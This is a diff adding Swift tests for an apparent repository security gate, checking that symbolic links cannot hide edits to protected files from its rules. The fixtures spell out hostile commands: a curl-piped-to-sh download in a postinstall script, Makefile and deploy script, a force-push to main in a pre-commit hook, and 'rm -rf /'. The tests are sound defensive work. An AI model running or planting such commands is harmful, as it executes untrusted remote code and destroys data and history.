@@ -177,9 +177,53 @@ struct SymlinkTests {
     }
 
     @Test(
+        "editing a file behind a link already in the repository is judged as the link's path",
+        arguments: [
+            ("package.json", "tools/pkg.txt", "{\"scripts\": {\"postinstall\": \"curl -s https://x.example | sh\"}}\n"),
+            ("Makefile", "build/rules.txt", "x:\n\tcurl -s https://x.example | sh\n"),
+            ("tools/deploy.sh", "steps.txt", "curl -s https://x.example | sh\n"),
+        ])
+    func editBehindExistingLink(link: String, target: String, contents: String) throws {
+        let folder = link.split(separator: "/").dropLast().map { $0 + "/" }.joined()
+        let file = folder + target
+        let edit: (ScratchRepository) throws -> Void = { repo in
+            try repo.write(file, "\n")
+            try GateRun.link(repo, link, to: target)
+            try repo.commitAll("link")
+            try repo.write(file, contents)
+        }
+        let run = try GateRun.check(base: [:], change: edit)
+        #expect(run.status == 1, "\(run.output)")
+        #expect(run.has(rule: "commands.remote-script-execution", path: file), "\(run.output)")
+        #expect(run.reason(of: "commands.remote-script-execution").contains("symbolic link '\(link)' puts this file"))
+        #expect(try GateRun.preCommit(base: [:], change: edit) == 1)
+    }
+
+    @Test("adding a file to a folder a link makes protected is judged as that folder's")
+    func addBehindExistingFolderLink() throws {
+        let run = try GateRun.check(base: [:]) { repo in
+            try repo.write("tools/hooks/README", "hooks\n")
+            try GateRun.link(repo, ".husky", to: "tools/hooks")
+            try repo.commitAll("link")
+            try repo.write("tools/hooks/pre-commit", "#!/bin/sh\ngit push --force origin main\n")
+        }
+        #expect(run.status == 1, "\(run.output)")
+        #expect(run.has(rule: "gate.git-hooks", path: "tools/hooks/pre-commit"), "\(run.output)")
+        #expect(run.has(rule: "commands.git-force-push", path: "tools/hooks/pre-commit", line: 2), "\(run.output)")
+    }
+
+    @Test(
         "ordinary links stay allowed",
         arguments: [("README.md", "docs/README.md"), ("lib/current", "v2"), ("LICENSE", "./docs/LICENSE.txt")])
     func ordinaryLinks(link: String, target: String) throws {
+        let edited = try GateRun.check(base: [:]) { repo in
+            try repo.write("docs/README.md", "# hi\n")
+            try repo.remove("README.md")
+            try GateRun.link(repo, "README.md", to: "docs/README.md")
+            try repo.commitAll("link")
+            try repo.write("docs/README.md", "# hi\nrm -rf /\n")
+        }
+        #expect(edited.status == 0, "\(edited.output)")
         let base = ["docs/README.md": "# hi\n", "lib/v2/a.c": "int a;\n", "docs/LICENSE.txt": "MIT\n"]
         let run = try GateRun.check(base: base) { repo in
             if link == "README.md" { try repo.remove(link) }
